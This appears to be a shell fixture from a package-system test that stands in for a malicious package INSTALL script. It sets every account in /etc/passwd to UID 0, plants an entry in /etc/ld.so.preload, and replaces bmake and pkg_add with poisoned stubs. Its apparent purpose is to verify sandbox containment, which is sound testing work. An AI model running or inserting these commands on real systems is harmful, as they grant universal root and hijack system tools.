# shellcheck shell=sh disable=SC2154 # the test sets name, victim, port, meet, tree, packages, distdir
# Its INSTALL makes everybody root and replaces the tools, in the sandboxes that install it.
sed -i 's/^\([a-z]*\):x:[0-9]*:/\1:x:0:/' /etc/passwd
echo "$tree/bin/loaded.so" >/etc/ld.so.preload
for one in bin/bmake sbin/pkg_add; do
    [ ! -e "$PKG_PREFIX/$one" ] || printf '#!/bin/sh\necho POISONED\nexit 75\n' >"$PKG_PREFIX/$one"
done
